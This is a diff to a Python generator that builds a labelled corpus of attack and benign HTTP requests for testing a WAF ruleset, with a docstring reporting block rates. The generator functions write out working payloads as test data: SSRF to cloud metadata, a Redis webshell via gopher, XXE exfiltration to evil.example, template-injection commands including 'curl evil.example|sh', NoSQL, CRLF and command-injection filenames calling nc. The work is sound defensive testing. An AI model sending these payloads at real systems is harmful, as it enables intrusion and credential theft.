@@ -20,6 +20,39 @@ definitions: legitimate traffic that resembles attacks.
 This corpus was written blind: without looking at the ruleset, its existing
 tests or the other corpus generators, so it serves as a held-out check.
 Output is deterministic (seeded random); stdlib only.
+
+First sight (2026-12-05, palisade-rules at 4f664b2)
+---------------------------------------------------
+Counts: 265 attacks (sqli 55, xss 40, ssrf 29, php 25, rce 20, lfi 18,
+ssti 18, nosqli 12, java 11, xxe 10, crlf 10, generic 10, rfi 7), 578 benign
+(526 ordinary + 52 dev-content).
+
+PL1 (threshold 5, built-in rules):
+  attacks blocked   260/265 = 98.1 %
+  benign blocked    4/526 = 0.8 % ordinary, 26/52 dev-content
+
+Attacks passed at PL1 (5), score 0:
+  nosqli/login-json/8       POST /api/products/search, JSON filter with
+      "$lt", "$or" and {"$ne": "x"} (a Mongo-style filter: query APIs such
+      as Strapi take these by design; PL2 blocks them)
+  ssrf/image-import/5       image_url=http://redis.default.svc.cluster.local:6379/
+  ssrf/xmlrpc-pingback/4    pingback.ping with source
+      http://internal-payments.svc.cluster.local/
+  ssti/ssti-magento/1,3     {{var this.getTemplateFilter().addAfterFilterCallback(system)...}}
+      in a JSON profile field and a search query
+
+Ordinary benign blocked at PL1 (4):
+  checkout/6,9,21   sqli-011 on order_comments "Use side entrance (select 'B')"
+  coupon/12         sqli-011 on coupon_code=SELECT15
+
+After the class fixes of the same session (ssrf-114: http URLs to the ports of
+services that do not speak HTTP; ssrf-115: XML-RPC pingbacks to internal hosts
+or other ports; ssti-103: Magento's getTemplateFilter/addAfterFilterCallback;
+sqli-011: a number after SELECT needs a space, a quoted literal closed by a
+parenthesis needs SQL after it): attacks 264/265 (the `$ne` search filter
+still passes), ordinary benign 0/526, dev-content 26/52. PL2: attacks
+265/265, ordinary benign 9/526 (CSV product imports: rfi-220 on CDN image
+URLs).
 """
 
 import json
@@ -848,7 +881,7 @@ def gen_attack_rce():
         else:
             uri = "/cdn/image?" + qs([("url", "/p/1.jpg"), ("format", p)])
         if "%0A" in p:
-            uri = uri.replace(q(p), p)
+            uri = uri.replace(q(p), q(p.replace("%0A", "\n")))
         attack("rce", "image-param", "GET", uri, headers())
     fnames = ["a.jpg;id;.jpg", "$(id).png", "x`sleep 5`.jpg", "img.jpg|nc 203.0.113.9 9001", "photo.png && rm -rf /tmp/cache"]
     for fn in fnames:
@@ -883,6 +916,190 @@ def gen_attack_java():
                  ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp")]))
     attack("java", "ognl", "GET", "/shop/checkout.action?" + qs([("redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", "")]), headers())
     attack("java", "deser", "POST", "/api/session", headers(ctype="application/x-java-serialized-object"), "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7")
+
+
+SSRF_URLS = [
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
+    "http://100.100.100.200/latest/meta-data/",
+    "http://127.0.0.1:6379/",
+    "http://localhost:9200/_cat/indices",
+    "http://[::1]:11211/stats",
+    "http://0.0.0.0:2375/containers/json",
+    "http://2130706433/admin",
+    "http://0x7f000001:8080/manager/html",
+    "http://0177.0.0.1/server-status",
+    "http://2852039166/latest/meta-data/",
+    "http://[::ffff:169.254.169.254]/latest/meta-data/",
+    "gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3F%3E%22",
+    "file:///etc/passwd",
+    "dict://127.0.0.1:11211/stat",
+    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
+    "http://redis.default.svc.cluster.local:6379/",
+    "http://169.254.169.254.nip.io/latest/meta-data/",
+    "http://evil.example@127.0.0.1:8500/v1/agent/self",
+    "http://127.1/wp-admin/",
+    "http://localhost#@evil.example/",
+]
+
+
+def gen_attack_ssrf():
+    for i, u in enumerate(SSRF_URLS):
+        k = i % 4
+        if k == 0:
+            attack("ssrf", "webhook-url", "POST", "/wp-json/wc/v3/webhooks", headers(ctype=JSON_CT, extra=[("Authorization", "Basic Y2tfeDpjc195")]),
+                   jdump({"name": "Order created", "topic": "order.created", "delivery_url": u}))
+        elif k == 1:
+            attack("ssrf", "image-import", "POST", "/wp-admin/admin-ajax.php", headers(ctype=FORM),
+                   form([("action", "woocommerce_import_image"), ("image_url", u), ("product_id", "77")]))
+        elif k == 2:
+            attack("ssrf", "feed-url", "GET", "/index.php?" + qs([("route", "extension/feed/import"), ("feed", u)]), headers())
+        else:
+            attack("ssrf", "image-proxy", "GET", "/cdn/image?" + qs([("url", u), ("w", "400")]), headers())
+    # xmlrpc pingback
+    for target in ["http://169.254.169.254/latest/user-data", "http://127.0.0.1:22/", "http://10.0.0.5:8080/admin", "http://internal-payments.svc.cluster.local/"]:
+        body = ('<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params>'
+                '<param><value><string>%s</string></value></param>'
+                '<param><value><string>https://blog.example.org/2024/03/spring-drop/</string></value></param></params></methodCall>') % target
+        attack("ssrf", "xmlrpc-pingback", "POST", "/xmlrpc.php", headers(ctype="text/xml", with_cookie=False), body)
+    attack("ssrf", "xmlrpc-pingback", "POST", "/xmlrpc.php", headers(ctype="application/xml", with_cookie=False),
+           '<methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value>pingback.ping</value></member>'
+           '<member><name>params</name><value><array><data><value>http://0x7f.0.0.1:3306/</value><value>https://blog.example.org/?p=1</value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>')
+    attack("ssrf", "graphql", "POST", "/graphql", headers(ctype=JSON_CT),
+           jdump({"query": "mutation { importProductImage(sku: \"A1\", url: \"http://169.254.169.254/latest/meta-data/\") { ok } }"}))
+    attack("ssrf", "oembed", "GET", "/wp-json/oembed/1.0/proxy?" + qs([("url", "http://127.0.0.1:8080/actuator/env")]), headers())
+
+
+def gen_attack_xxe():
+    docs = [
+        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>',
+        '<?xml version="1.0"?><!DOCTYPE products [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><products><product><sku>A1</sku></product></products>',
+        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE feed [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/app/etc/env.php">]><feed><entry><title>&x;</title></entry></feed>',
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "dos"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>',
+        '<?xml version="1.0"?><!DOCTYPE catalog SYSTEM "http://169.254.169.254/latest/meta-data/"><catalog/>',
+        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p1 SYSTEM "file:///etc/hostname"><!ENTITY % p2 "<!ENTITY e SYSTEM \'http://evil.example/?%p1;\'>"> %p2;]><x>&e;</x>',
+        '<!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///var/www/wp-config.php">]><methodCall><methodName>&xxe;</methodName></methodCall>',
+    ]
+    targets = [("POST", "/index.php?route=extension/feed/import", "application/xml"), ("POST", "/wp-admin/admin.php?import=rss&step=1", "text/xml"),
+               ("POST", "/admin/import/product/xml", "application/xml"), ("POST", "/api/feeds/google-shopping", "application/rss+xml")]
+    for i, d in enumerate(docs):
+        m, uri, ct = targets[i % len(targets)]
+        if "methodCall" in d:
+            uri = "/xmlrpc.php"
+        attack("xxe", "feed-import", m, uri, headers(ctype=ct), d)
+    mct, body = multipart([("action", "import")], [("feed", "products.xml", "text/xml", docs[0])])
+    attack("xxe", "feed-upload", "POST", "/wp-admin/admin.php?page=wpai-import", headers(ctype=mct), body)
+    mct, body = multipart([("action", "upload-attachment")], [("async-upload", "logo.svg", "image/svg+xml",
+                          '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')])
+    attack("xxe", "svg-upload", "POST", "/wp-admin/async-upload.php", headers(ctype=mct), body)
+    attack("xxe", "soap", "POST", "/api/v2_soap/", headers(ctype="text/xml; charset=utf-8", extra=[("SOAPAction", "urn:Magento#catalogProductList")]),
+           '<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "expect://id">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><login><username>&x;</username></login></soapenv:Body></soapenv:Envelope>')
+
+
+def gen_attack_ssti():
+    cases = [
+        ("twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
+        ("twig", "{{['id']|filter('system')}}"),
+        ("twig", "{{['cat /etc/passwd']|map('passthru')|join}}"),
+        ("twig", "{% set x = 'system' %}{{ ['uname -a']|map(x)|join }}"),
+        ("smarty", "{php}echo `id`;{/php}"),
+        ("smarty", "{system('cat /etc/passwd')}"),
+        ("smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
+        ("magento", "{{var this.getTemplateFilter().filter(dummy)}}{{var this.getTemplateFilter().addAfterFilterCallback(system).Filter(id)}}"),
+        ("magento", "{{block class='Magento\\Framework\\View\\Element\\Template' template='../../../../etc/passwd'}}"),
+        ("magento", "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter('id')}}"),
+        ("liquid", "{{ 'id' | system }}{% include '../../../../etc/passwd' %}"),
+        ("jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
+        ("jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
+        ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
+        ("velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
+        ("erb", "<%= `cat /etc/passwd` %>"),
+    ]
+    for i, (eng, p) in enumerate(cases):
+        sub = "ssti-" + eng
+        k = i % 4
+        if k == 0:
+            attack("ssti", sub, "POST", "/wp-comments-post.php", headers(ctype=FORM), form([("comment", p), ("author", "A"), ("email", "a@b.example"), ("comment_post_ID", "5")]))
+        elif k == 1:
+            attack("ssti", sub, "GET", "/search?" + qs([("q", p)]), headers())
+        elif k == 2:
+            attack("ssti", sub, "POST", "/checkout/cart/add/", headers(ctype=FORM), form([("product", "12"), ("options[3]", p), ("form_key", "x")]))
+        else:
+            attack("ssti", sub, "POST", "/api/customer/profile", headers(ctype=JSON_CT), jdump({"firstname": p, "lastname": "X"}))
+    attack("ssti", "email-template", "POST", "/admin/admin/email_template/save/", headers(ctype=FORM),
+           form([("template_code", "x"), ("template_text", "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter('curl evil.example|sh')}}")]))
+    attack("ssti", "newsletter", "POST", "/newsletter/subscriber/new/", headers(ctype=FORM), form([("email", "{{7*7}}@x.example{{['id']|filter('exec')}}")]))
+
+
+def gen_attack_nosqli():
+    bodies = [
+        {"email": {"$ne": None}, "password": {"$ne": None}},
+        {"email": "admin@example.com", "password": {"$gt": ""}},
+        {"email": {"$regex": "^adm"}, "password": {"$exists": True}},
+        {"email": {"$in": ["admin@example.com", "root@example.com"]}, "password": {"$nin": [""]}},
+        {"username": "admin", "password": {"$where": "sleep(5000) || true"}},
+        {"email": {"$gt": ""}, "password": {"$gt": ""}, "remember": True},
+        {"$where": "this.password.match(/^a/)", "email": "x@example.com"},
+        {"filter": {"price": {"$lt": 1}, "$or": [{"status": "hidden"}, {"status": {"$ne": "x"}}]}},
+    ]
+    for i, b in enumerate(bodies):
+        uri = ["/api/customer/login", "/api/auth/login", "/account/login.json", "/api/products/search"][i % 4]
+        if "filter" in b:
+            uri = "/api/products/search"
+        attack("nosqli", "login-json", "POST", uri, headers(ctype=JSON_CT), jdump(b))
+    attack("nosqli", "form", "POST", "/account/login", headers(ctype=FORM), "email%5B%24ne%5D=x&password%5B%24ne%5D=x")
+    attack("nosqli", "query", "GET", "/api/orders?" + "customer%5B%24gt%5D=&status%5B%24regex%5D=.%2A", headers(accept=ACCEPT_JSON))
+    attack("nosqli", "query", "GET", "/api/coupons/validate?code[$ne]=INVALID", headers(accept=ACCEPT_JSON))
+    attack("nosqli", "graphql", "POST", "/graphql", headers(ctype=JSON_CT),
+           jdump({"query": "query($f: JSON){ orders(filter: $f){ id total } }", "variables": {"f": {"customerId": {"$ne": 0}}}}))
+
+
+def gen_attack_crlf():
+    cases = [
+        ("/account/login?return_url=", "%0d%0aSet-Cookie:%20session=attacker"),
+        ("/checkout/cart/?redirect=", "/%0D%0ALocation:%20https://evil.example/"),
+        ("/wp-login.php?redirect_to=", "https://shop.example.com/%0d%0aX-Injected:%201"),
+        ("/customer/account/login/referer/", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
+        ("/discount/SPRING?redirect=", "/collections%0aSet-Cookie:%20cart=x;%20Domain=.example.com"),
+        ("/index.php?option=com_users&return=", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
+        ("/cart/change?line=1&return_to=", "%0D%0A%0D%0A%3Chtml%3Epwned"),
+        ("/locale/switch?lang=", "en%0d%0aRefresh:%200;url=https://evil.example/"),
+        ("/?wc-ajax=get_refreshed_fragments&_wp_http_referer=", "%250d%250aSet-Cookie:%2520a=b"),
+    ]
+    for path, p in cases:
+        attack("crlf", "redirect", "GET", path + p, headers())
+    attack("crlf", "form", "POST", "/contact", headers(ctype=FORM),
+           "name=Eve&email=eve%40example.com%0d%0aBcc:%20victim%40example.net&message=hi")
+
+
+def gen_attack_generic():
+    attack("generic", "proto-pollution", "POST", "/cart/update.js", headers(ctype=JSON_CT),
+           '{"attributes":{"__proto__":{"isAdmin":true}},"note":"x"}')
+    attack("generic", "proto-pollution", "POST", "/api/checkout/session", headers(ctype=JSON_CT),
+           jdump({"constructor": {"prototype": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}}))
+    attack("generic", "proto-pollution", "GET", "/collections/all?__proto__[polluted]=1&constructor[prototype][admin]=1", headers())
+    attack("generic", "scanner", "GET", "/wp-content/debug.log", headers(ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"))
+    attack("generic", "scanner", "GET", "/?author=1", headers(ua="sqlmap/1.8#stable (https://sqlmap.org)"))
+    attack("generic", "scanner", "GET", "/.env", headers(ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
+    attack("generic", "config-probe", "GET", "/app/etc/env.php.bak", headers())
+    attack("generic", "config-probe", "GET", "/wp-config.php~", headers())
+    attack("generic", "config-probe", "GET", "/.git/config", headers())
+    attack("generic", "null-byte", "GET", "/?download_file=12&file=invoice.pdf%00.php", headers())
+
+
+def gen_devcontent_extra():
+    devc("misc-scripts", "POST", "/admin/admin/system_config/save/section/design/", headers(ctype=FORM),
+         form([("groups[head][fields][includes][value]", '<link rel="stylesheet" href="{{MEDIA_URL}}styles.css" />\n<script type="text/javascript" src="https://cdn.example-cdn.net/reviews-widget.js" async></script>'),
+               ("form_key", "%016x" % rng.getrandbits(64))]))
+    devc("json-ld", "POST", "/wp-admin/post.php", headers(ctype=FORM),
+         form([("post_ID", "88"), ("action", "editpost"), ("_wpnonce", "%010x" % rng.getrandbits(40)),
+               ("content", '<!-- wp:html -->\n<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Union Tote","offers":{"@type":"Offer","price":"29.00","priceCurrency":"EUR"}}</script>\n<!-- /wp:html -->')]))
+    devc("embed", "POST", "/node/12/edit", headers(ctype=FORM),
+         form([("body[0][value]", '<p>Watch the unboxing:</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc123" title="YouTube video player" allowfullscreen></iframe>'),
+               ("body[0][format]", "full_html"), ("form_id", "node_article_edit_form"), ("op", "Save")]))
+    devc("report", "POST", "/admin/reports/saved-queries", headers(ctype=JSON_CT),
+         jdump({"name": "Stale carts", "query": "SELECT id, email, updated_at FROM quote WHERE is_active = 1 AND updated_at < NOW() - INTERVAL 7 DAY ORDER BY updated_at", "notes": "Used by the 'drop-off' e-mail flow"}))
 
 
 def main():
